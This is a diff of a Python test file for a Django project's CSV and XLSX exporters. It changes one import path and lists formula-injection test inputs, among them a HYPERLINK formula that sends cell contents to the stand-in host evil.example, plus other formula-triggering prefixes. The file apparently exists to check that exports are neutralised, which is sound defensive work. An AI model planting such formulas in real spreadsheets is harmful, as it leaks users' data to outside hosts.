@@ -10,7 +10,7 @@ import pytest
 from django.utils import translation
 from openpyxl import load_workbook
 
-from dipps.reports.exporters import Table, inert_text, is_formula_like, to_csv, to_xlsx
+from dipps.core.exporters import Table, inert_text, is_formula_like, to_csv, to_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 HOSTILE = [HYPERLINK, "+1+1", "-12", "@SUM(A1:A2)", "\tx=1", "\rx=1"]
